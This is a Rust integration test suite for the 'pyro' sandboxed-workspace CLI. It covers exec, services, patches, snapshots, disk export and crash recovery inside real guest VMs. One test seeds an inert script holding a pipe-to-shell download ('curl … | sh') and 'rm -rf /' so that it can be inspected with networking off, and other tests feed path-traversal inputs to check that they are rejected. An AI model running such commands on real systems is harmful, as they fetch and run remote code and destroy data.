//! The five use-case stories of the reference (§10) end to end through the `pyro` CLI in
//! real guests, plus stop → offline disk tools → start, and crash recovery, with the
//! service steps of story 1 and the shell steps of story 5 (`story_review_eval_with_a_shell`).
//!
//! They boot real guests, so they are `#[ignore]`d in a plain `cargo test` and run by
//! `scripts/test.sh` after `scripts/setup.sh --no-run`.

use std::process::{Command, Stdio};
use std::time::Duration;

use pyro_test::{vmm_pid, wait_for, Sandbox};
use serde_json::Value;

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn story_cold_start_validation() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed(
        "cold",
        &[
            ("README.md", "# demo repo\n", 0o644),
            ("validate.sh", "#!/bin/sh\necho validation=pass > validation-report.txt\necho validated\n", 0o755),
            ("serve.sh", "#!/bin/sh\necho service started\necho service=ready > service-state.txt\ntouch .app-ready\nsleep 1000\n", 0o755),
        ],
    );
    let id = sb.create(&seed, "cold-start-validation", &["suite=workspace-use-case-smoke", "use_case=cold-start-validation"]);
    let exec = sb.ws(&["exec", &id, "--", "sh validate.sh"]);
    assert_eq!(exec["exit_code"], 0);
    assert_eq!(exec["stdout"], "validated\n");
    assert_eq!(exec["execution_mode"], "guest_vsock");
    let app = sb.ws(&["service", "start", &id, "app", "--ready-file", ".app-ready", "--", "sh serve.sh"]);
    assert_eq!(app["state"], "running", "{app}\n{}", sb.diagnostics());
    assert_eq!(app["readiness"], serde_json::json!({"type": "file", "path": "/workspace/.app-ready"}));
    assert!(app["ready_at"].is_number(), "{app}");
    let probe = sb.ws(&["exec", &id, "--", "cat service-state.txt"]);
    assert_eq!(probe["stdout"], "service=ready\n");
    let service_logs = sb.ws(&["service", "logs", &id, "app", "--tail-lines", "20"]);
    assert!(service_logs["stdout"].as_str().unwrap().contains("service started"), "{service_logs}");
    assert_eq!(sb.export_text(&id, "validation-report.txt"), "validation=pass\n");
    let stopped = sb.ws(&["service", "stop", &id, "app"]);
    assert_eq!(stopped["state"], "stopped", "{stopped}");
    assert_eq!(stopped["stop_reason"], "sigterm");
    let logs = sb.ws(&["logs", &id]);
    assert_eq!(logs["count"], 2);
    assert_eq!(logs["entries"][0]["stdout"], "validated\n");
}

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn story_repro_fix_loop() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed("repro", &[("message.txt", "broken\n", 0o644), ("check.sh", "#!/bin/sh\ngrep -qx fixed message.txt && cat message.txt\n", 0o755)]);
    let id = sb.create(&seed, "repro-fix-loop", &[]);
    assert_eq!(sb.ws(&["file", "read", &id, "message.txt"])["content"], "broken\n");
    assert_ne!(sb.ws(&["exec", &id, "--", "sh check.sh"])["exit_code"], 0);
    let patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
    assert_eq!(sb.ws(&["patch", "apply", &id, "--patch", patch])["changed"], true);
    let exec = sb.ws(&["exec", &id, "--", "sh check.sh"]);
    assert_eq!((exec["exit_code"].clone(), exec["stdout"].clone()), (Value::from(0), Value::from("fixed\n")));
    let diff = sb.ws(&["diff", &id]);
    assert_eq!(diff["changed"], true);
    assert_eq!(sb.export_text(&id, "message.txt"), "fixed\n");

    // The diff re-applies cleanly after a reset (diff → patch round trip).
    let reset = sb.ws(&["reset", &id]);
    assert_eq!(reset["reset_count"], 1);
    assert_eq!(reset["command_count"], 0);
    assert_eq!(sb.ws(&["diff", &id])["changed"], false);
    let replay = diff["patch"].as_str().unwrap();
    assert_eq!(sb.ws(&["patch", "apply", &id, "--patch", replay])["changed"], true);
    assert_eq!(sb.ws(&["file", "read", &id, "message.txt"])["content"], "fixed\n");
}

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn story_parallel_workspaces() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed("parallel", &[("note.txt", "shared seed\n", 0o644)]);
    let alpha = sb.create(&seed, "parallel-alpha", &["branch=alpha"]);
    let beta = sb.create(&seed, "parallel-beta", &["branch=beta"]);
    sb.ws(&["file", "write", &alpha, "branch.txt", "--text", "alpha\n"]);
    sb.ws(&["file", "write", &beta, "branch.txt", "--text", "beta\n"]);
    let updated = sb.ws(&["update", &alpha, "--label", "owner=alice"]);
    assert_eq!(updated["labels"]["owner"], "alice");
    assert_eq!(updated["labels"]["branch"], "alpha");
    assert_eq!(sb.ws(&["file", "read", &alpha, "branch.txt"])["content"], "alpha\n");
    assert_eq!(sb.ws(&["file", "read", &beta, "branch.txt"])["content"], "beta\n");
    sb.ws(&["file", "write", &alpha, "activity.txt", "--text", "touched\n"]);
    let list = sb.ws(&["list"]);
    let ids: Vec<&str> = list["workspaces"].as_array().unwrap().iter().map(|w| w["workspace_id"].as_str().unwrap()).collect();
    assert_eq!(ids, vec![alpha.as_str(), beta.as_str()], "most recently active first");
}

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn story_untrusted_inspection() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed(
        "untrusted",
        &[("suspicious.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\nrm -rf /\n", 0o755), ("README.md", "inspect me\n", 0o644)],
    );
    let id = sb.create(&seed, "untrusted-inspection", &[]);
    assert_eq!(sb.ws(&["status", &id])["network_policy"], "off");
    let listing = sb.ws(&["file", "list", &id, "/workspace", "--recursive"]);
    assert!(listing["entries"].as_array().unwrap().iter().any(|e| e["path"] == "/workspace/suspicious.sh" && e["mode"] == "0755"), "{listing}");
    assert!(sb.ws(&["file", "read", &id, "suspicious.sh"])["content"].as_str().unwrap().contains("curl -fsSL"));
    let exec = sb.ws(&["exec", &id, "--", "grep -n 'curl\\|rm -rf' suspicious.sh > inspection-report.txt; echo network_policy=off >> inspection-report.txt"]);
    assert_eq!(exec["exit_code"], 0);
    let report = sb.export_text(&id, "inspection-report.txt");
    assert!(report.contains("curl -fsSL") && report.contains("network_policy=off"), "{report}");
}

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn story_review_eval_and_offline_disk() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed(
        "review",
        &[
            ("CHECKLIST.md", "# Review checklist\n- artifact says PASS\n", 0o644),
            ("artifact.txt", "PASS\n", 0o644),
            ("review.sh", "#!/bin/sh\ngrep -qx PASS artifact.txt && echo review=pass > review-report.txt\n", 0o755),
        ],
    );
    let id = sb.create(&seed, "review-eval", &[]);
    sb.ws(&["snapshot", "create", &id, "pre-review"]);
    assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
    sb.ws(&["file", "write", &id, "artifact.txt", "--text", "FAIL\n"]);
    let reset = sb.ws(&["reset", &id, "--snapshot", "pre-review"]);
    assert_eq!(reset["workspace_reset"]["snapshot_name"], "pre-review");
    assert_eq!(sb.ws(&["file", "read", &id, "artifact.txt"])["content"], "PASS\n");
    assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
    assert_eq!(sb.export_text(&id, "review-report.txt"), "review=pass\n");
    let snapshots = sb.ws(&["snapshot", "list", &id]);
    let names: Vec<&str> = snapshots["snapshots"].as_array().unwrap().iter().map(|s| s["snapshot_name"].as_str().unwrap()).collect();
    assert_eq!(names, vec!["baseline", "pre-review"]);
    assert!(sb.ws_err(&["snapshot", "delete", &id, "baseline"]).contains("cannot be deleted"));

    // stop → offline disk tools → start, with /workspace intact.
    assert!(sb.ws_err(&["disk", "list", &id]).contains("state=stopped"));
    assert_eq!(sb.ws(&["stop", &id])["state"], "stopped");
    let listing = sb.ws(&["disk", "list", &id, "/workspace"]);
    assert!(listing["entries"].as_array().unwrap().iter().any(|e| e["path"] == "/workspace/review-report.txt"), "{listing}");
    assert_eq!(sb.ws(&["disk", "read", &id, "review-report.txt"])["content"], "review=pass\n");
    let image = sb.host.path().join("disk.ext4");
    sb.ws(&["disk", "export", &id, "--output", image.to_str().unwrap()]);
    let debugfs =
        Command::new("debugfs").args(["-R", "cat /workspace/artifact.txt"]).arg(&image).output().expect("debugfs (e2fsprogs) reads the exported ext4");
    assert_eq!(String::from_utf8_lossy(&debugfs.stdout), "PASS\n");
    assert!(sb.ws_err(&["disk", "export", &id, "--output", image.to_str().unwrap()]).contains("already exists"));
    assert_eq!(sb.ws(&["start", &id])["state"], "started");
    assert_eq!(sb.ws(&["file", "read", &id, "review-report.txt"])["content"], "review=pass\n");
}

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn modes_git_patches_and_crash_recovery() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed("modes", &[("run.sh", "#!/bin/sh\necho one\n", 0o755), ("old.txt", "bye\n", 0o644)]);
    let id = sb.create(&seed, "modes", &[]);
    sb.ws(&["file", "write", &id, "run.sh", "--text", "#!/bin/sh\necho two\n"]);
    assert_eq!(sb.ws(&["exec", &id, "--", "./run.sh"])["stdout"], "two\n", "file write kept the executable bit");

    // Standard `git diff` output: new file with mode, deletion, no trailing newline.
    let patch = "diff --git a/new.sh b/new.sh\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1 @@\n+echo new\n\\ No newline at end of file\ndiff --git a/old.txt b/old.txt\ndeleted file mode 100644\nindex 2222222..0000000\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n";
    let applied = sb.ws(&["patch", "apply", &id, "--patch", patch]);
    assert_eq!((applied["summary"]["added"].clone(), applied["summary"]["deleted"].clone()), (Value::from(1), Value::from(1)));
    assert_eq!(sb.ws(&["exec", &id, "--", "./new.sh; test ! -e old.txt && printf '|%s' \"$(wc -c < new.sh)\""])["stdout"], "new\n|8");

    // All or nothing: the second file's context fails, so the first is not changed.
    let bad = "--- a/run.sh\n+++ b/run.sh\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo two\n+echo three\n--- a/new.sh\n+++ b/new.sh\n@@ -1 +1 @@\n-no such line\n+x\n";
    assert!(sb.ws_err(&["patch", "apply", &id, "--patch", bad]).contains("context does not match"));
    assert_eq!(sb.ws(&["file", "read", &id, "run.sh"])["content"], "#!/bin/sh\necho two\n");

    // Bad input: one clear line, nothing changed.
    assert!(sb.ws_err(&["file", "read", &id, "../etc/passwd"]).contains("must stay inside /workspace"));
    assert!(sb.ws_err(&["file", "write", &id, "/etc/x", "--text", "x"]).contains("must stay inside /workspace"));
    assert!(sb.ws_err(&["status", "0123456789ab"]).contains("does not exist"));
    assert!(sb.ws_err(&["status", "../../etc"]).contains("does not exist"));
    assert!(sb.ws_err(&["reset", &id, "--snapshot", "nope"]).contains("snapshot 'nope' does not exist"));

    // Killing the VMM: status reports stopped with the reason; start recovers /workspace.
    let vmm = vmm_pid(sb.state.path()).expect("a VMM process for the workspace");
    // SAFETY: kill(2) with a pid we found and a valid signal number.
    unsafe { libc::kill(vmm, libc::SIGKILL) };
    let status = wait_for(Duration::from_secs(60), || {
        let s = sb.ws(&["status", &id]);
        (s["state"] == "stopped").then_some(s)
    })
    .expect("status notices the dead VMM");
    assert!(status["last_error"].as_str().unwrap_or("").contains("VMM"), "{status}");
    assert_eq!(sb.ws(&["start", &id])["state"], "started");
    assert_eq!(sb.ws(&["exec", &id, "--", "cat new.sh"])["stdout"], "echo new");
}

#[test]
#[ignore = "boots a real guest; run by scripts/test.sh"]
fn idle_workspaces_stop_and_keep_their_data() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed("idle", &[("keep.txt", "kept\n", 0o644)]);
    let out = sb
        .raw_env(&["workspace", "create", "debian:12-base", "--seed-path", seed.to_str().unwrap(), "--id-only"], &[("PYRO_WORKSPACE_IDLE_STOP_SECONDS", "3")]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let id = String::from_utf8(out.stdout).unwrap().trim().to_string();
    let status = wait_for(Duration::from_secs(60), || {
        let s = sb.ws(&["status", &id]);
        (s["state"] == "stopped").then_some(s)
    })
    .expect("an idle workspace is stopped");
    assert!(status["last_error"].as_str().unwrap_or("").contains("without activity"), "{status}");
    assert_eq!(sb.ws(&["start", &id])["state"], "started");
    assert_eq!(sb.ws(&["file", "read", &id, "keep.txt"])["content"], "kept\n");
}

#[test]
#[ignore = "boots a real guest; run by scripts/test.sh"]
fn concurrent_cli_processes_lose_nothing() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed("concurrent", &[("x", "x\n", 0o644)]);
    let id = sb.create(&seed, "concurrent", &[]);
    let spawn = |args: Vec<String>| {
        Command::new(crate::PYRO).args(args).env("PYRO_STATE_DIR", sb.state.path()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap()
    };
    let mut children = Vec::new();
    for i in 0..4 {
        children.push(spawn(vec!["workspace".into(), "exec".into(), id.clone(), "--".into(), format!("echo run-{i}")]));
        children.push(spawn(vec!["workspace".into(), "update".into(), id.clone(), "--label".into(), format!("k{i}=v{i}")]));
    }
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let logs = sb.ws(&["logs", &id]);
    let mut sequences: Vec<u64> = logs["entries"].as_array().unwrap().iter().map(|e| e["sequence"].as_u64().unwrap()).collect();
    sequences.sort();
    assert_eq!(sequences, vec![1, 2, 3, 4], "every exec recorded once, sequence numbers unique");
    let labels = &sb.ws(&["status", &id])["labels"];
    for i in 0..4 {
        assert_eq!(labels[format!("k{i}")], format!("v{i}"), "{labels}");
    }
}

/// Plain idle read of shell `sid` from `cursor`: the story's one read, repeated only while
/// a slow (TCG) guest has not printed `needle` yet. Returns the output and `next_cursor`.
fn plain_idle_read(sb: &Sandbox, id: &str, sid: &str, cursor: u64, needle: &str) -> (String, u64) {
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    let (mut seen, mut cursor) = (String::new(), cursor);
    loop {
        let read = sb.ws(&["shell", "read", id, sid, "--cursor", &cursor.to_string(), "--plain", "--wait-for-idle-ms", "300"]);
        assert_eq!((read["plain"].clone(), read["wait_for_idle_ms"].clone()), (Value::from(true), Value::from(300)), "{read}");
        seen.push_str(read["output"].as_str().unwrap());
        cursor = read["next_cursor"].as_u64().unwrap();
        if seen.contains(needle) {
            return (seen, cursor);
        }
        assert!(std::time::Instant::now() < deadline, "shell never printed {needle:?}: {seen:?}\n{}", sb.diagnostics());
    }
}

#[test]
#[ignore = "boots real guests; run by scripts/test.sh"]
fn story_review_eval_with_a_shell() {
    let sb = Sandbox::new(crate::PYRO);
    let seed = sb.seed(
        "review-shell",
        &[
            ("CHECKLIST.md", "# Review checklist\n- artifact says PASS\n", 0o644),
            ("artifact.txt", "PASS\n", 0o644),
            ("review.sh", "#!/bin/sh\ngrep -qx PASS artifact.txt && echo review=pass > review-report.txt\n", 0o755),
        ],
    );
    let id = sb.create(&seed, "review-eval", &["use_case=review-eval"]);
    sb.ws(&["snapshot", "create", &id, "pre-review"]);
    let out = sb.raw(&["workspace", "shell", "open", &id, "--id-only"]);
    sb.expect_success(&out);
    let sid = String::from_utf8(out.stdout).unwrap().trim().to_string();
    let (prompt, cursor) = plain_idle_read(&sb, &id, &sid, 0, "pyro$ ");
    assert!(!prompt.contains('\u{1b}'), "{prompt:?}");
    let written = sb.ws(&["shell", "write", &id, &sid, "--input", "cat CHECKLIST.md"]);
    assert_eq!(written["input_length"], 16);
    let (checklist, _) = plain_idle_read(&sb, &id, &sid, cursor, "Review checklist");
    assert!(checklist.contains("# Review checklist\n- artifact says PASS\n"), "{checklist:?}");
    assert_eq!(sb.ws(&["shell", "close", &id, &sid])["closed"], true);
    assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
    sb.ws(&["file", "write", &id, "artifact.txt", "--text", "FAIL\n"]);
    let reset = sb.ws(&["reset", &id, "--snapshot", "pre-review"]);
    assert_eq!(reset["workspace_reset"]["snapshot_name"], "pre-review");
    assert_eq!(sb.ws(&["file", "read", &id, "artifact.txt"])["content"], "PASS\n");
    assert_eq!(sb.ws(&["exec", &id, "--", "sh review.sh"])["exit_code"], 0);
    assert_eq!(sb.export_text(&id, "review-report.txt"), "review=pass\n");
}
